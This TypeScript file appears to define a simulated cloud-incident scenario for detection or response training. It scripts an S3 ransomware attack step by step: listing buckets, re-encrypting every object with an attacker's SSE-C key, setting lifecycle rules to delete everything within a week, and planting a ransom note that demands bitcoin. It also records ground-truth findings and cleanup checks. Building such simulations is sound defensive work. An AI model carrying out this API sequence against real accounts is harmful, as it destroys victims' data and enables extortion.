import type { ScenarioDef, Step, TruthNote, Vars } from '../types.js';
import { W } from '../world.js';
import { HOUR, MIN, attackerStep, stepBy } from './steps.js';

const DAY = 24 * HOUR;
const admin = stepBy('admin');

/** The attacker's SSE-C key (base64 of 32 bytes): S3 keeps only its MD5, so the data is theirs. */
export const ATTACKER_KEY = Buffer.from('codefinger-style-ransom-key-2026').toString('base64');
/** The note left in every bucket. */
export const RANSOM_NOTE = 'README-HOW-TO-RECOVER.txt';
/** The finance archive: versioning off, a lifecycle rule of its own since before the attack. */
export const ARCHIVE = 'acme-finance-archive';
export const ARCHIVE_OBJECTS = [
  'ledger/2024.csv',
  'ledger/2025.csv',
  'invoices/2026-q3.pdf',
  'payroll/2026-10.csv',
  'tax/return-2025.pdf',
];
/** The account's own lifecycle rule on the archive (eradication must put it back). */
export const ARCHIVE_RULE = 'archive-after-a-year';

/**
 * Which bucket has what: customer data is versioned (since ten days) and its objects are
 * selected as data events by the trail (world set-up); the archive has neither.
 */
export const RANSOMED = [
  { bucket: W.customerData, keys: W.customerObjects, versioned: true, priorRules: [] as string[] },
  { bucket: ARCHIVE, keys: ARCHIVE_OBJECTS, versioned: false, priorRules: [ARCHIVE_RULE] },
];

const SET_UP: Step[] = [
  admin(-30 * DAY, 's3', 'CreateBucket', { Bucket: ARCHIVE }),
  ...ARCHIVE_OBJECTS.map((Key, i) =>
    admin(-30 * DAY + (i + 1) * MIN, 's3', 'PutObject', {
      Bucket: ARCHIVE,
      Key,
      Body: `finance record ${Key}\n${'0123456789,'.repeat(20 + i * 7)}\n`,
    }),
  ),
  admin(-30 * DAY + 10 * MIN, 's3', 'PutBucketLifecycleConfiguration', {
    Bucket: ARCHIVE,
    LifecycleConfiguration: {
      Rules: [
        {
          ID: ARCHIVE_RULE,
          Status: 'Enabled',
          Filter: { Prefix: '' },
          Transitions: [{ Days: 365, StorageClass: 'GLACIER' }],
        },
      ],
    },
  }),
  admin(-10 * DAY, 's3', 'PutBucketVersioning', {
    Bucket: W.customerData,
    VersioningConfiguration: { Status: 'Enabled' },
  }),
];

const etagVar = (bucket: string, key: string): string => `etag:${bucket}/${key}`;

/** Listing first: what each bucket holds, whether it keeps versions, what lifecycle it has. */
const RECON: Step[] = [
  attackerStep(0, 'sts', 'GetCallerIdentity', {}),
  attackerStep(20_000, 's3', 'ListBuckets', {}),
  ...RANSOMED.flatMap((b, i): Step[] => [
    attackerStep(MIN + i * 30_000, 's3', 'GetBucketVersioning', { Bucket: b.bucket }),
    attackerStep(
      MIN + i * 30_000 + 5_000,
      's3',
      'GetBucketLifecycleConfiguration',
      { Bucket: b.bucket },
      b.priorRules.length ? {} : { expectError: 'NoSuchLifecycleConfiguration' },
    ),
    attackerStep(
      MIN + i * 30_000 + 10_000,
      's3',
      'ListObjectsV2',
      { Bucket: b.bucket },
      {
        save: (out, v) => {
          for (const o of (out.Contents ?? []) as { Key: string; ETag: string }[])
            v[etagVar(b.bucket, o.Key)] = o.ETag;
        },
      },
    ),
  ]),
];

/** Every object copied onto itself with the attacker's key: the same bytes, readable only with it. */
const ENCRYPTION: Step[] = RANSOMED.flatMap((b, i) =>
  b.keys.map((key, k) =>
    attackerStep(
      5 * MIN + i * 3 * MIN + k * 15_000,
      's3',
      'CopyObject',
      {
        Bucket: b.bucket,
        Key: key,
        CopySource: `${b.bucket}/${key}`,
        SSECustomerAlgorithm: 'AES256',
        SSECustomerKey: ATTACKER_KEY,
      },
      {
        truth: (_out, v: Vars): TruthNote => ({
          dataTouched: [
            {
              kind: 's3-object-encrypted',
              resource: `arn:aws:s3:::${b.bucket}/${key}`,
              detail: b.versioned
                ? "re-encrypted with the attacker's SSE-C key; the version before it is kept"
                : "re-encrypted with the attacker's SSE-C key; versioning off, no earlier copy",
            },
          ],
          clean: b.versioned
            ? [{ check: 'objectRestored', bucket: b.bucket, key, etag: String(v[etagVar(b.bucket, key)]) }]
            : [],
        }),
      },
    ),
  ),
);

/** Everything set to expire in a week, earlier versions after a day: the ransom's clock. */
const LIFECYCLE: Step[] = RANSOMED.map((b, i) =>
  attackerStep(
    20 * MIN + i * 20_000,
    's3',
    'PutBucketLifecycleConfiguration',
    {
      Bucket: b.bucket,
      LifecycleConfiguration: {
        Rules: [
          {
            ID: 'cleanup',
            Status: 'Enabled',
            Filter: { Prefix: '' },
            Expiration: { Days: 7 },
            NoncurrentVersionExpiration: { NoncurrentDays: 1 },
          },
        ],
      },
    },
    {
      truth: {
        modified: [
          {
            type: 'AWS::S3::Bucket',
            id: b.bucket,
            region: W.region,
            detail: b.priorRules.length
              ? `lifecycle ${b.priorRules.join(', ')} replaced: every object expires in 7 days, earlier versions after 1`
              : 'lifecycle set: every object expires in 7 days, earlier versions after 1',
          },
        ],
        clean: [{ check: 'bucketLifecycleRules', bucket: b.bucket, ruleIds: b.priorRules }],
      },
    },
  ),
);

const NOTE = [
  'Your files are encrypted with AES-256 (SSE-C). Only our key can read them.',
  'They will be deleted in 7 days. To recover them send 2.5 BTC and write to',
  'recover-acme@proton.example with this bucket name.',
].join('\n');

const NOTES: Step[] = RANSOMED.map((b, i) =>
  attackerStep(
    25 * MIN + i * 10_000,
    's3',
    'PutObject',
    { Bucket: b.bucket, Key: RANSOM_NOTE, Body: NOTE, ContentType: 'text/plain' },
    {
      truth: {
        created: [
          { type: 'AWS::S3::Object', id: `arn:aws:s3:::${b.bucket}/${RANSOM_NOTE}`, region: W.region },
        ],
        clean: [{ check: 'objectAbsent', bucket: b.bucket, key: RANSOM_NOTE }],
      },
    },
  ),
);

/**
 * S3 ransomware (the "Codefinger" pattern): the leaked key lists the buckets, copies every object
 * onto itself with the attacker's SSE-C key, sets lifecycle rules that delete it all within a
 * week and leaves a ransom note. Customer data is versioned and its object calls are data events;
 * the finance archive is neither, so its objects are lost and its writes invisible to CloudTrail.
 */
export const s3Ransomware: ScenarioDef = {
  name: 's3-ransomware',
  summary:
    'leaked key → buckets listed → 9 objects re-encrypted with the attacker’s SSE-C key in 2 buckets (one versioned, data events on; one not) → lifecycle expiry in 7 days → ransom note',
  attackStartsBeforeEnd: 3 * HOUR,
  leakedKey: true,
  attackers: [
    {
      name: 'attacker',
      kind: 'attacker',
      ip: '45.148.10.87',
      userAgent:
        'aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off command/s3api.copy-object',
    },
  ],
  steps: [...SET_UP, ...RECON, ...ENCRYPTION, ...LIFECYCLE, ...NOTES],
};
